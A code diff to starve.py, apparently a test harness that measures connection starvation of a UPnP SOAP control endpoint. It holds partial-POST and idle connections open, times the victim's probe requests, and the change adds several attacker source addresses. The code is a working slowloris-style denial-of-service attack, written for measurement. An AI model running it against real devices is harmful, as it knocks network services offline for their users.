@@ -5,12 +5,14 @@
                    TIMEOUT
   starve.py parallel URL SOURCE N TIMEOUT
 
-From ATTACKER (a local address to bind to), opens PARTIAL connections to
-CTLURL that send a SOAP POST whose Content-Length is larger than the body
-sent, then IDLE connections that send nothing, all at once and kept open.
+From ATTACKER (local addresses to bind to, comma-separated), each address
+opens PARTIAL connections to CTLURL that send a SOAP POST whose
+Content-Length is larger than the body sent, then IDLE connections that
+send nothing, all at once and kept open.
 Then, while they are held, PROBES GetExternalIPAddress calls from VICTIM,
 each given TIMEOUT seconds. Then closes the attacker's connections and
-makes one more call from ATTACKER. Prints one JSON object:
+makes one more call from the first ATTACKER address. Prints one JSON
+object (counts are totals over the attacker addresses):
 
   partial, idle    attacker connections established within 2 s
   pending          attacker connections still not established then
@@ -135,11 +137,17 @@ def cmd_attack(argv):
     idle, partial, probes = int(argv[4]), int(argv[5]), int(argv[6])
     timeout = float(argv[7])
     u = urllib.parse.urlsplit(url)
-    part, part_wait = open_batch(attacker, u.hostname, u.port, partial)
-    for s in part:
-        s.setblocking(True)
-        s.sendall(partial_request(u, stype))
-    idle_done, idle_wait = open_batch(attacker, u.hostname, u.port, idle)
+    part, part_wait, idle_done, idle_wait = [], [], [], []
+    for src in attacker.split(","):
+        done, wait = open_batch(src, u.hostname, u.port, partial)
+        for s in done:
+            s.setblocking(True)
+            s.sendall(partial_request(u, stype))
+        part += done
+        part_wait += wait
+        done, wait = open_batch(src, u.hostname, u.port, idle)
+        idle_done += done
+        idle_wait += wait
     time.sleep(SETTLE)
     took = []
     for i in range(probes):
@@ -150,7 +158,7 @@ def cmd_attack(argv):
     for s in part + part_wait + idle_done + idle_wait:
         s.close()
     time.sleep(SETTLE)
-    after = probe(url, stype, attacker, timeout)
+    after = probe(url, stype, attacker.split(",")[0], timeout)
     print(json.dumps({"partial": len(part), "idle": len(idle_done),
                       "pending": len(part_wait) + len(idle_wait),
                       "probes": took, "held": held, "after": after}))
